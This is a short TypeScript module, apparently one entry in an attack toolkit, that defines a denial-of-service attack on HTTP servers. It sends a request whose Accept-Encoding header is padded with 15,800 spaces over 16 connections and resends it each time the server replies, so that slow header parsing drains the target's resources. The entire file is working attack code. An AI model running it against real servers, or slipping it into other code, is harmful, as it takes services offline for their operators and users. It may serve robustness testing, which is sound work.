import type { Attack } from '../attack.ts';
import { keepDialling } from '../dial.ts';

const SPACES = `GET / HTTP/1.1\r\nHost: x\r\nAccept-Encoding: a${' '.repeat(15_800)}b\r\n\r\n`;

/** Headers that a slow reader of them would go over again and again. */
export const hostileHeaders: Attack = (target) => {
  keepDialling(target, 16, (socket) => {
    socket.on('data', () => socket.write(SPACES));
    socket.write(SPACES);
  });
};
